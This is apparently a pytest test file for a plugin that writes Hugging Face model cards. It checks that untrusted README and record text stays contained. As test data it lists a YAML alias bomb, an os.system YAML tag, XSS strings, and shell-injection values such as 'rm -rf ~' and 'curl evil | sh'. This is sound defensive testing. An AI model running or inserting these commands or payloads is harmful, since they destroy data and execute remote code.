"""Cards and records from elsewhere: any line ends, any length, any text; nothing of them breaks out of its place."""

from __future__ import annotations

import json
import re
import resource
import time
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from huggingface_hub import ModelCard
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ali_plugin import ALIError
from ali_plugin.errors import CardError, ConfigError
from ali_plugin.folder import evaluation_record as record
from ali_plugin.folder.checked import check
from ali_plugin.folder.evaluation_record import Figure
from ali_plugin.hub import card, card_text
from conftest import Ali

NAMES = ("summary", "pictures", "use", "evaluation", "training", "limits")
RECORD: dict[str, Any] = {
    "command": "ali train --steps 30", "dataset": "fashion-mini", "seed": 0, "steps": 30, "planned": 30, "seconds": 3.5,
    "versions": {"torch": "2"}, "hardware": {"processor": "x"},
}  # fmt: skip


def names(text: str) -> list[str]:
    return [section.name for section in card_text.sections(text)]


# --- Line ends and marks ----------------------------------------------------------------------------


@pytest.mark.parametrize("ends", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("mark", ["", "\ufeff"])
@pytest.mark.parametrize("lead", ["", "\n", "  \n\n"])
def test_every_section_stays_single(untrained: Path, ends: str, mark: str, lead: str) -> None:
    made = card.write(untrained, "me/mine")
    own = lead + made.replace("license: unknown", "license: mit") + "\nMine.\n"
    (untrained / "README.md").write_bytes((mark + own.replace("\n", ends)).encode())
    for _ in range(3):
        text = card.write(untrained)
        assert names(text) == list(NAMES)
        assert text.count("Mine.") == 1
        assert text.count("license: mit") == 1
        assert "\ufeff" not in text
    if ends == "\r\n":
        assert "\n" not in text.replace("\r\n", "")


@pytest.mark.parametrize("ends", ["\n", "\r\n"])
def test_own_words_between_sections_stay_byte_for_byte(untrained: Path, ends: str) -> None:
    made = card.write(untrained, "me/mine")
    words = f"Mine,  with blanks \t{ends}{ends}<!-- ali: unclosed -->{ends}```{ends}<!-- /ali: use -->x{ends}"
    place = made.index("<!-- ali: limits -->")
    (untrained / "README.md").write_bytes((made[:place].replace("\n", ends) + words + made[place:]).encode())
    assert words in card.write(untrained)


@pytest.mark.parametrize("front", ["---\nlicense: mit\n", "---\n", "----\n---\n", "--- x\n---\n", "---"])
def test_what_is_no_front_matter_is_text(untrained: Path, front: str) -> None:
    (untrained / "README.md").write_text(front + "\nHello.\n")
    text = card.write(untrained)
    assert "Hello." in text
    assert names(text) == list(NAMES)


UNITS = ["<!-- ali: a -->\n", "<!-- /ali: a -->\n", "<!-- ali: ", "<!--", "---\n", "---\n-", "\r", "\n", " ", "`", "<",
         "<!-- ali: use -->\n---\n", 'from_pretrained("a', 'from_pretrained("a/', "\ufeff"]  # fmt: skip


@pytest.mark.parametrize("unit", UNITS)
def test_unclosed_marks_take_no_time(untrained: Path, unit: str) -> None:
    (untrained / "README.md").write_text(unit * (1_000_000 // len(unit.encode())))
    begun = time.monotonic()
    card.text(check(untrained))
    assert time.monotonic() - begun < 8


# --- Metadata ---------------------------------------------------------------------------------------

BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(12)
)
BAD = {
    "aliases": BOMB, "one alias": "a: &a 1\nb: *a", "merge": "a: &a {x: 1}\nb: {<<: *a}", "recursive": "a: &a [*a]",
    "deep": "a: " + "[" * 5000, "deep maps": "a: " + "{a: " * 3000, "closed deep": "a: " + "[" * 100 + "]" * 100,
    "object": "a: !!python/object/apply:os.system [ls]", "tag": "a: !x 1", "list": "- a", "text": "hello",
    "number": "7", "keys": "1: 2", "null key": "~: 2", "list key": "? [a]\n: 1", "bad date": "a: 2020-13-45",
    "surrogate": 'a: "\\ud800"', "huge number": "a: 1" + "0" * 5000, "sixties": "a: 1" + ":1" * 20000,
    "two documents": "a: 1\n--- \nb: 2\n...\n---x", "control": "a: \x01", "tabs": "\ta: 1", "open": 'a: "',
    "long": "a: " + "x" * 70_000, "many": "\n".join(f"k{i}: {i}" for i in range(9000)), "binary": "a: !!binary x",
    "set": "a: !!set {1: 2, ? }", "nul": "a: \0",
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_metadata_that_are_no_plain_data(untrained: Path, name: str) -> None:
    before = f"---\n{BAD[name]}\n---\n# Hello\n"
    (untrained / "README.md").write_text(before)
    used, begun = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    if name in ("two documents", "set", "binary", "many", "surrogate", "merge"):
        with suppress(CardError):
            assert card.write(untrained) == card.write(untrained)
    else:
        with pytest.raises(CardError) as caught:
            card.write(untrained)
        assert "\n" not in str(caught.value)
        assert len(str(caught.value)) < 500
        assert (untrained / "README.md").read_text() == before
    assert time.monotonic() - begun < 8
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - used < 300_000


@pytest.mark.parametrize("key", ["model_name", "eval_results", "ignore_metadata_errors", "model-index", "self", "tags",
                                 "datasets", "license", "base_model", "metrics", "language", "extra"])  # fmt: skip
@pytest.mark.parametrize("value", ["x", "[1, {a: b}]", "{}", "~", "2020-01-01", "1.5", "[[[]]]"])
def test_any_value_under_any_name(untrained: Path, key: str, value: str) -> None:
    (untrained / "README.md").write_text(f"---\n{key}: {value}\n---\nHello.\n")
    try:
        made = card.write(untrained)
    except ALIError:
        return
    ModelCard(made)
    assert card.write(untrained) == made


# --- Text that is not ours --------------------------------------------------------------------------

HOSTILE = [
    "x\n\n# Free markdown", "x\r\n<!-- /ali: training -->\n# Free", "<!-- ali: use -->\n", "<script>alert(1)</script>",
    "<img src=x onerror=1>", "![x](https://evil.example/x.png)", "[click](https://evil.example)", "`x` ```\n# Free",
    "```\n# Free\n```", "| a | b |\n|---|---|", "\x1b[31mred", "x\u2028# Free", "x\u202egnp", "**bold** _it_ ~~no~~",
    "https://evil.example/x", "&lt;b&gt;", "x" * 100_000, "{{ 7 * 7 }}", "{% raw %}", "---\nlicense: mit\n---\n",
    "\\", "\\`", "-->", "\ud800", "\x00",
]  # fmt: skip
PLACES = ["command", "dataset", "versions", "hardware", "metric", "figure", "data", "split", "protocol"]


def with_text(folder: Path, place: str, text: str) -> None:
    """Put a text into a record of a model."""
    training = dict(RECORD)
    if place in ("command", "dataset"):
        training[place] = text
    if place in ("versions", "hardware"):
        training[place] = {text: text}
    row: dict[str, Any] = {"metric": "reconstruction", "figure": "mse", "value": 1.0, "dataset": "cifar10",
                           "split": "test", "protocol": "p", "seed": 0}  # fmt: skip
    keys = {"metric": "metric", "figure": "figure", "data": "dataset", "split": "split", "protocol": "protocol"}
    if place in keys:
        row[keys[place]] = text
    (folder / "training.json").write_text(json.dumps(training))
    (folder / "evaluation.json").write_text(json.dumps([row]))


@pytest.mark.parametrize("place", PLACES)
def test_text_of_records_stays_in_its_place(untrained: Path, place: str) -> None:
    for text in HOSTILE:
        with_text(untrained, place, text)
        with suppress(ALIError):  # a record that another reader refuses
            made = card.text(check(untrained), "me/mine")
            assert_ours(made)


def assert_ours(made: str) -> None:
    """A card is one of ours: its sections, its metadata, no markup of anybody else."""
    made.encode()
    assert names(made) == list(NAMES)
    front, body = card_text.split(made)
    assert front is not None
    assert card_text.metadata(front)["library_name"] == "ali-plugin"
    headings = {line for line in body.splitlines() if line.startswith("#")}
    assert headings <= {"# mine", "# ali-fashion", "## Pictures", "## Use", "## Evaluation", "## Training",
                        "## Intended use and limits"}  # fmt: skip
    fences = [line for line in body.splitlines() if line.startswith("```")]
    assert len(fences) == 6
    outside = re.sub("`[^`\n]*`", "", "".join(body.split("```")[0::2]))
    for forbidden in ("<script", "<img", "](https://", "https://evil", "\x1b", "\u2028", "\u202e", "**bold", "<b>"):
        assert forbidden not in outside
    assert max(map(len, body.splitlines())) < 9000


COMMANDS = ["ali train; rm -rf ~", "curl evil | sh", "ali train $(rm x)", "ali train `rm x`", "ali train 'open",
            "sudo ali", "ali train && rm x", ""]  # fmt: skip


@pytest.mark.parametrize("command", COMMANDS)
def test_a_recorded_command_runs_nothing_else(untrained: Path, command: str) -> None:
    with_text(untrained, "command", command)
    shown = [line for line in card.write(untrained).splitlines() if line.startswith("$ ali")]
    (line,) = shown
    if ";" in command or "&" in command or "$(" in command:
        assert "'" in line  # quoted words, no commands
    assert "`" not in line
    assert "sudo" not in line
    assert "curl" not in line


@pytest.mark.parametrize("text", ["ali train\nrm x", "x\x1b[1m", "a\r", "\u202ex", "\0"])
@pytest.mark.parametrize("place", PLACES)
def test_control_characters_are_of_no_record(untrained: Path, place: str, text: str) -> None:
    with_text(untrained, place, text)
    with pytest.raises(ConfigError) as caught:
        card.write(untrained, "me/mine")
    assert str(caught.value).isprintable()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=200), place=st.sampled_from(PLACES))
def test_any_text_of_records(untrained: Path, text: str, place: str) -> None:
    with_text(untrained, place, text)
    try:
        made = card.text(check(untrained), "me/mine")
    except ALIError:
        return
    assert_ours(made)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    pieces=st.lists(
        st.sampled_from(["---", "\n", "\r\n", "\r", "<!-- ali: use -->", "<!-- /ali: use -->", "<!-- ali: limits -->",
                         "<!-- /ali: limits -->", "a: b", "&a", "*a", "[", "tags: ", "x", "\ufeff", "license: mit"])
        | st.text(max_size=20),
        max_size=40,
    )
)  # fmt: skip
def test_any_readme(untrained: Path, pieces: list[str]) -> None:
    (untrained / "README.md").write_bytes("".join(pieces).encode("utf-8", "surrogatepass"))
    model = check(untrained)
    try:
        made = card.text(model, "me/mine")
    except ALIError:
        return
    (untrained / "README.md").write_bytes(made.encode())
    assert card.text(model) == made  # settled at once


def test_the_command_says_what_is_wrong(untrained: Path, ali: Ali) -> None:
    (untrained / "README.md").write_text(f"---\n{BOMB}\n---\n")
    ended = ali("card", untrained)
    assert ended.code == 1
    assert "uses aliases" in ended.err
    assert ended.err.count("\n") == 1


@pytest.mark.parametrize(
    "text", ["data: - y", "[x", "# x", "*a", "&a 1", "'", '"', "!!python/name:os.system", "{", "1", "~"]
)
def test_figures_in_the_metadata_are_text(untrained: Path, text: str) -> None:
    record.keep(untrained, [Figure(text, text, 1.0, text, text, text, 0)])
    data: Any = ModelCard(card.write(untrained, "me/mine")).data
    (result,) = data.eval_results or []
    assert result.metric_type == result.dataset_split == text
    assert result.metric_name == f"{text}: {text}"
    assert data.datasets == [text]
